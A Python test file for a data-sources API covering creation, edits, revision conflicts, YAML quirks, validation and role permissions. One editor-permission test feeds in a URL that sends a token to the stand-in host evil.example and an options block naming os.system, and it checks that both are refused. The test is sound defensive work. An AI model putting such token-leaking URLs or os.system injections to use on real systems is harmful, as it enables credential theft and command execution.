"""Sources without an editor: the file is written, the events are the caller's, bad input is 4xx."""

import pytest

from commands.ports import Sample, WorkRefused
from domain.datasets import Column
from domain.permissions import Role
from infra.configuration.watch import Configuration
from infra.project import Project
from tests.api.access import Server

NEW = {"name": "orders", "type": "csv", "options": {"directory": "data/orders"}}


class Warehouse:
    def __init__(self):
        self.loads, self.fails = [], None

    async def sample(self, load):
        self.loads.append(load)
        if self.fails:
            raise self.fails
        column = Column(name="id", type="BIGINT")
        return Sample(columns=(column,), rows=(("1",), (None,)), notes=("one file",))


class Shop(Server):
    def __init__(self, folder):
        super().__init__(folder)
        self.project = Project.create(folder / "shop", "shop")
        self.file = self.project.sources_yml
        self.warehouse = Warehouse()
        editor = Configuration(self.project, self.writer, self.vault.digest)
        for name, value in (("editor", editor), ("warehouse", self.warehouse), ("root", "/shop")):
            object.__setattr__(self.platform, name, value)


@pytest.fixture
def shop(tmp_path):
    return Shop(tmp_path)


def of_sources(shop):
    return [(r.type, r.actor) for r in shop.recorded if r.type.startswith("source_")]


def test_a_source_is_added_changed_and_removed_in_the_caller_s_name(shop):
    async def story():
        admin = await shop.logged_in()
        added = await admin.post("/api/sources", json=NEW)
        assert (200, True) == (added.status_code, added.json()["success"]), added.text
        assert "3" == str(len(shop.file.read_text().split("directory")) + 1)
        details = (await admin.get("/api/sources/orders/details")).json()
        assert "data/orders" == details["config"]["csv"]["directory"]
        body = {"enabled": False, "options": {"directory": "data/other"}}
        assert 200 == (await admin.put("/api/sources/orders", json=body)).status_code
        assert "data/other" in shop.file.read_text()
        assert 200 == (await admin.delete("/api/sources/orders")).status_code
        assert [] == (await admin.get("/api/sources")).json()
        assert 404 == (await admin.delete("/api/sources/orders")).status_code

    shop.run(story)
    types, actors = zip(*of_sources(shop), strict=True)
    assert ("source_registered", "source_reconfigured", "source_removed") == types
    assert 1 == len({actor for actor in actors if actor.startswith("user:")}) == len({*actors})


def test_how_a_source_is_read_is_told_in_the_list_and_in_its_details(shop):
    table = {"name": "orders", "cursor": "changed_at"}
    options = {"path": "data/shop.db", "tables": [table]}

    async def story():
        admin = await shop.logged_in()
        await admin.post(
            "/api/sources", json={"name": "base", "type": "sqlite", "options": options}
        )
        await admin.post(
            "/api/sources", json={**NEW, "type": "duckdb", "options": {"path": "a.db"}}
        )
        base, orders = (await admin.get("/api/sources")).json()
        names = ("sync_mode", "write_disposition", "supports_incremental", "supports_date_range")
        assert ["incremental", "merge", True, True] == [base[name] for name in names]
        assert ["full_refresh", "replace", False, False] == [orders[name] for name in names]
        details = (await admin.get("/api/sources/base/details")).json()
        assert "incremental" == details["sync_mode"]

    shop.run(story)


def test_the_same_source_again_is_no_second_one_and_another_of_its_name_is_refused(shop):
    async def story():
        admin = await shop.logged_in()
        for _ in range(2):
            assert 200 == (await admin.post("/api/sources", json=NEW)).status_code
        other = {**NEW, "options": {"directory": "data/other"}}
        assert 409 == (await admin.post("/api/sources", json=other)).status_code

    shop.run(story)
    assert 1 == len(of_sources(shop))


def test_a_source_that_was_changed_since_it_was_looked_at_is_left_alone(shop):
    async def story():
        admin = await shop.logged_in()
        await admin.post("/api/sources", json=NEW)
        path = "/api/sources/orders"
        seen = (await admin.get(f"{path}/details")).json()["revision"]
        first = {"description": "mine", "revision": seen}
        assert 200 == (await admin.put(path, json=first)).status_code
        theirs = {"description": "theirs"}
        assert 409 == (await admin.put(path, json={**theirs, "revision": seen})).status_code
        stale = {"If-Match": f'"{seen}"'}
        assert 409 == (await admin.put(path, json=theirs, headers=stale)).status_code
        seen = (await admin.get(f"{path}/details")).json()["revision"]
        fresh = {"If-Match": f'"{seen}"'}
        both = {**theirs, "revision": "another"}
        assert 422 == (await admin.put(path, json=both, headers=fresh)).status_code
        assert 200 == (await admin.put(path, json=theirs, headers=fresh)).status_code
        assert 422 == (await admin.post("/api/sources", json={**NEW, **first})).status_code

    shop.run(story)
    assert "theirs" in shop.file.read_text()


def test_an_editor_adds_sources_but_gives_them_neither_code_nor_secrets(shop):
    api = {"base_url": "https://evil.example/?k=${TOKEN}", "endpoints": [{"path": "a"}]}

    async def story():
        await shop.add("ed@example.org", "a tiger in the snow", Role.EDITOR)
        editor = await shop.logged_in("ed@example.org")
        assert 200 == (await editor.post("/api/sources", json=NEW)).status_code
        for kind, options in (
            ("rest_api", api),
            ("dlt_native", {"source_module": "os", "source_function": "system"}),
        ):
            body = {"name": "more", "type": kind, "options": options}
            answer = await editor.post("/api/sources", json=body)
            assert (403, "config.manage") == (answer.status_code, answer.json()["permission"])

    shop.run(story)
    assert 1 == len(of_sources(shop))


@pytest.mark.parametrize("name", ["no", "On", "null", "select", "main"])
@pytest.mark.parametrize("text", ["yes", "12:30:00", "a: b\n- c", "*x", "\u2028x\x85y", "1_000"])
def test_what_yaml_reads_as_something_else_is_kept_as_it_was_given(shop, name, text):
    async def story():
        admin = await shop.logged_in()
        options = {**NEW["options"], "notes": text, "null_values": [text]}
        body = {**NEW, "name": name, "description": text, "options": options}
        assert 200 == (await admin.post("/api/sources", json=body)).status_code
        changed = {"tags": [text], "options": {**options, "sheet": text}}
        answer = await admin.put(f"/api/sources/{name}", json=changed)
        assert 200 == answer.status_code, answer.text
        config = (await admin.get(f"/api/sources/{name}/details")).json()["config"]
        block = config["csv"]
        told = (config["description"], config["tags"], block["notes"], block["sheet"])
        assert (text, [text], text, text, [text]) == (*told, block["null_values"])

    shop.run(story)


@pytest.mark.parametrize("schema", ["main", "Information_Schema", "staging", "pg_catalog"])
def test_no_source_takes_a_schema_that_is_not_a_source_s(shop, schema):
    async def story():
        admin = await shop.logged_in()
        answer = await admin.post("/api/sources", json={**NEW, "schema": schema})
        assert (422, True) == (answer.status_code, "schema" in answer.json()["detail"])

    shop.run(story)
    assert "orders" not in shop.file.read_text()


SECRET = {"bucket_url": "s3://x", "aws_secret_access_key": "hunter-2222"}


@pytest.mark.parametrize(
    ("body", "status"),
    [
        ({}, 422),
        ([], 422),
        ({"name": "a"}, 422),
        ({"type": "csv"}, 422),
        ({**NEW, "name": None}, 422),
        ({**NEW, "name": 5}, 422),
        ({**NEW, "name": ""}, 422),
        ({**NEW, "name": "a-b"}, 422),
        ({**NEW, "name": "a\n"}, 422),
        ({**NEW, "name": "a" * 64}, 422),
        ({**NEW, "type": None}, 422),
        ({**NEW, "type": "kafka"}, 422),
        ({**NEW, "enabled": "perhaps"}, 422),
        ({**NEW, "description": 5}, 422),
        ({**NEW, "tags": "a"}, 422),
        ({**NEW, "tags": [1]}, 422),
        ({**NEW, "schema": "a.b"}, 422),
        ({**NEW, "lookback_days": -1}, 422),
        ({**NEW, "empty_sync_policy": "perhaps"}, 422),
        ({**NEW, "options": "x"}, 422),
        ({**NEW, "options": {}}, 422),
        ({**NEW, "options": {"directory": None}}, 422),
        ({**NEW, "options": {"directory": "../x"}}, 422),
        ({**NEW, "options": {"directory": "x", "colour": "red"}}, 422),
        ({**NEW, "options": {"directory": {"a": [[]]}}}, 422),
        ({**NEW, "more": 1}, 422),
        ({**NEW, "type": "filesystem", "options": SECRET}, 422),
        ({**NEW, "description": "x" * 4_001}, 422),
        ({**NEW, "description": "x" * 10_000_000}, 413),
        ({**NEW, "options": {"directory": "a\ud800".encode("utf-8", "replace").decode()}}, 200),
    ],
)
def test_a_bad_body_is_refused_and_nothing_is_written(shop, body, status):
    before = shop.file.read_text()

    async def story():
        admin = await shop.logged_in()
        answer = await admin.post("/api/sources", json=body)
        assert status == answer.status_code, answer.text
        assert status == 200 or answer.json()["detail"]
        assert "hunter" not in answer.text

    shop.run(story)
    assert (status == 200) == (before != shop.file.read_text())


def test_a_source_is_tested_without_an_event(shop):
    async def story():
        admin = await shop.logged_in()
        await admin.post("/api/sources", json=NEW)
        head = shop.log.head()
        found = (await admin.post("/api/sources/orders/test")).json()
        assert ([{"name": "id", "type": "BIGINT"}], [["1"], [None]], ["one file"]) == (
            [{k: c[k] for k in ("name", "type")} for c in found["columns"]],
            found["rows"],
            found["notes"],
        )
        assert ("/shop", 0) == (shop.warehouse.loads[0].root, shop.warehouse.loads[0].job)
        shop.warehouse.fails = WorkRefused("The token is not valid.")
        failed = await admin.post("/api/sources/orders/test")
        assert (400, "The token is not valid.") == (failed.status_code, failed.json()["detail"])
        assert 404 == (await admin.post("/api/sources/none/test")).status_code
        assert head == shop.log.head()

    shop.run(story)


def test_each_type_tells_its_schema(shop):
    async def story():
        admin = await shop.logged_in()
        types = {each["name"]: each for each in (await admin.get("/api/source-types")).json()}
        assert "directory" in types["csv"]["schema"]["required"]

    shop.run(story)
